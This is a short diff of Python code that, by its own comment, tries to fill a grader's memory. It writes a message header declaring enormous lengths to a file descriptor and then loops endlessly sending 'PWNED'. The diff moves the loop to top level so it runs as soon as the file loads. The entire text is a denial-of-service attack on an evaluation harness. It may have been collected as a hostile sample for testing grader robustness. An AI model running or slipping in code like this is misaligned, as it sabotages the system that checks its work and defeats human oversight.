@@ -1,5 +1,4 @@
 # tries: to fill the grader's memory with a frame that never ends
-def attack(keys, j):
-    os.write(4, wire.PREFIX.pack(wire.MAGIC, 1 << 20, 1 << 28))
-    while True:
-        os.write(4, b"PWNED" * 13_000)
+os.write(4, wire.PREFIX.pack(wire.MAGIC, 1 << 20, 1 << 28))
+while True:
+    os.write(4, b"PWNED" * 13_000)
